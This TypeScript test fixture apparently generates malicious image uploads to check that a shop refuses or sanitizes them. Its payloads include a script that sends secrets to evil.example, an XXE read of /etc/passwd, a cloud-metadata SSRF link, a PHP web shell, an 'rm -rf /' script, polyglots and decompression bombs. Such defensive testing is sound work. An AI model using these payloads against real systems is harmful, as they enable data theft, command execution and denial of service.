import { crc32, deflateSync } from "node:zlib";

import sharp from "sharp";

import type { UploadType } from "#domain/upload/upload-type.ts";

import { photo, SECRET_WORDS } from "./pictures.ts";
import { createRandom, type Random } from "./random.ts";

/** A file that somebody sends to do harm, and whether the shop may take anything of it. */
export type HostileFile = {
  kind: string;
  /** What it is sent as. */
  type: UploadType;
  bytes: Buffer;
  /** A picture all the same, a file that is to be refused, or one whose damage decides. */
  outcome: "kept" | "refused" | "either";
};

const FORMATS = ["jpeg", "png", "webp"] as const;
type Format = (typeof FORMATS)[number];
type Photos = Readonly<Record<Format, Buffer>>;
type Made = Omit<HostileFile, "kind">;

const BEGINNINGS: Readonly<Record<Format, Buffer>> = {
  jpeg: Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
  png: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  webp: Buffer.from("RIFF\0\0\u0001\0WEBPVP8 "),
};

const SCRIPT = `<script>fetch("https://evil.example/?${SECRET_WORDS}")</script>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)">${SCRIPT}
<image href="file:///etc/passwd"/><image href="http://169.254.169.254/"/></svg>`;
/** What is no picture that the shop takes, by its first bytes. */
const FOREIGN = [
  SVG,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${SVG}`,
  `<!doctype html>${SCRIPT}`,
  `%PDF-1.7\n/OpenAction << /S /JavaScript /JS (${SECRET_WORDS}) >>`,
  "GIF89a=1;alert(1)//",
  "PK\u0003\u0004zip",
  "\u007fELF\u0002\u0001\u0001",
  "II*\0\b\0\0\0",
  "BM\u0001\u0001\0\0",
  "#!/bin/sh\nrm -rf /\n",
  "<?php system($_GET[0]); ?>",
  "push graphic-context\nimage over 0,0 0,0 'ephemeral:/etc/passwd'\n",
  "\0\0\0\u0018ftypheic",
];

/** The ways to do harm, each with as many files as chance gives it. */
const KINDS: Readonly<Record<string, (random: Random, photos: Photos) => Made>> = {
  "no picture behind the beginning of one": (random) => {
    const format = random.pick(FORMATS);
    const rest = noise(random, random.below(4_000));
    return made(format, Buffer.concat([BEGINNINGS[format], rest]), "refused");
  },
  "script behind the beginning of a picture": (random) => {
    const format = random.pick(FORMATS);
    return made(format, Buffer.concat([BEGINNINGS[format], Buffer.from(SVG)]), "refused");
  },
  "another kind of file": (random) =>
    made(random.pick(FORMATS), Buffer.from(random.pick(FOREIGN)), "refused"),
  "a picture of another type": (random, photos) => {
    const format = random.pick(FORMATS);
    const other = random.pick(FORMATS.filter((one) => one !== format));
    return made(format, photos[other], "refused");
  },
  "hardly anything": (random) => {
    const format = random.pick(FORMATS);
    return made(format, BEGINNINGS[format].subarray(0, random.below(9)), "refused");
  },
  "cut off": (random, photos) => {
    const format = random.pick(FORMATS);
    const bytes = photos[format];
    return made(format, bytes.subarray(0, random.below(Math.floor(bytes.length * 0.9))), "refused");
  },
  "damaged in places": (random, photos) => {
    const format = random.pick(FORMATS);
    const bytes = Buffer.from(photos[format]);
    for (let times = random.below(40); times >= 0; times -= 1)
      bytes[random.below(bytes.length)] = random.below(256);
    return made(format, bytes, "either");
  },
  "a bomb": (random) => random.pick(BOMBS)(random),
  "a picture and something else": (random, photos) => {
    const format = random.pick(FORMATS);
    const tail = Buffer.from(`${random.pick(FOREIGN)}${SCRIPT}`);
    return made(format, Buffer.concat([photos[format], tail]), "kept");
  },
  "a text between the parts of a picture": (random, photos) =>
    random.chance(0.5)
      ? made("png", withPngText(photos.png, SCRIPT), "kept")
      : made("jpeg", withJpegComment(photos.jpeg, SCRIPT), "kept"),
  "a place and a camera": (random, photos) => {
    const format = random.pick(FORMATS);
    return made(format, photos[format], "kept");
  },
};

/** Small files that claim to be enormous, or grow when they are unpacked. */
const BOMBS: readonly ((random: Random) => Made)[] = [
  (random) => made("png", pngOf(claimed(random), claimed(random), Buffer.alloc(10)), "refused"),
  (random) => made("png", pngOf(20_000, 20_000 + random.below(9), RAW_50_MB()), "refused"),
  // So many rows behind a header that speaks of one.
  (random) => made("png", pngOf(1 + random.below(3), 1, RAW_50_MB()), "either"),
  () => made("png", withPngText(pngOf(1, 1, Buffer.alloc(4)), RAW_50_MB()), "either"),
  (random) => made("jpeg", jpegClaiming(claimed(random), claimed(random)), "refused"),
  (random) => made("webp", webpClaiming(16_000 + random.below(300)), "refused"),
];

/** So many files of every kind in turn, the same for the same seed. */
export async function hostileFiles(count: number, seed: number): Promise<HostileFile[]> {
  const random = createRandom(seed);
  const photos: Photos = {
    jpeg: await photo("jpeg"),
    png: await photo("png"),
    webp: await photo("webp"),
  };
  const kinds = Object.entries(KINDS);
  return Array.from({ length: count }, (_, place) => {
    const [kind, make] = kinds[place % kinds.length] ?? random.pick(kinds);
    return { kind, ...make(random, photos) };
  });
}

/** What of a kept picture is not its pixels. */
export async function besidesPixels(bytes: Buffer): Promise<string[]> {
  const { format, exif, xmp, icc, iptc, comments, pages } = await sharp(bytes).metadata();
  const found = { exif, xmp, icc, iptc, comments, pages };
  return [
    ...(format === "webp" ? [] : [`is ${format}`]),
    ...Object.entries(found).flatMap(([name, value]) => (value === undefined ? [] : [name])),
  ];
}

function made(format: Format, bytes: Buffer, outcome: HostileFile["outcome"]): Made {
  return { type: `image/${format}`, bytes, outcome };
}

function noise(random: Random, length: number): Buffer {
  return Buffer.from(Array.from({ length }, () => random.below(256)));
}

/** A side of more than forty megapixels, whatever the other is. */
function claimed(random: Random): number {
  return 10_000 + random.below(50_000);
}

let packed: Buffer | undefined;
/** Fifty megabytes of nothing, packed into fifty kilobytes. */
function RAW_50_MB(): Buffer {
  return (packed ??= deflateSync(Buffer.alloc(50_000_000)));
}

function pngOf(width: number, height: number, packedRows: Buffer): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1; // a bit for each pixel, grey
  const parts = [pngPart("IHDR", header), pngPart("IDAT", packedRows)];
  return Buffer.concat([BEGINNINGS.png, ...parts, pngPart("IEND", Buffer.alloc(0))]);
}

function pngPart(name: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(name), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}

/** Text, or packed text, behind the header of a PNG. */
function withPngText(png: Buffer, text: string | Buffer): Buffer {
  const part =
    typeof text === "string"
      ? pngPart("tEXt", Buffer.from(`Comment\0${text}`))
      : pngPart("zTXt", Buffer.concat([Buffer.from("Comment\0\0"), text]));
  return Buffer.concat([png.subarray(0, 33), part, png.subarray(33)]);
}

function withJpegComment(jpeg: Buffer, text: string): Buffer {
  const part = Buffer.alloc(4);
  part.writeUInt16BE(0xff_fe, 0);
  part.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), part, Buffer.from(text), jpeg.subarray(2)]);
}

function jpegClaiming(width: number, height: number): Buffer {
  const frame = Buffer.from("ffd8ffc0000b080000000001012200ffda0008010100003f00", "hex");
  frame.writeUInt16BE(Math.min(height, 65_000), 7);
  frame.writeUInt16BE(Math.min(width, 65_000), 9);
  return Buffer.concat([frame, Buffer.alloc(100, 0x7f), Buffer.from([0xff, 0xd9])]);
}

/** A lossless WebP whose header claims a square of this side. */
function webpClaiming(side: number): Buffer {
  const bytes = Buffer.alloc(64);
  bytes.write("RIFF", 0);
  bytes.writeUInt32LE(56, 4);
  bytes.write("WEBPVP8L", 8);
  bytes.writeUInt32LE(44, 16);
  bytes[20] = 0x2f;
  bytes.writeUInt32LE(((side - 1) | ((side - 1) << 14)) >>> 0, 21);
  return bytes;
}
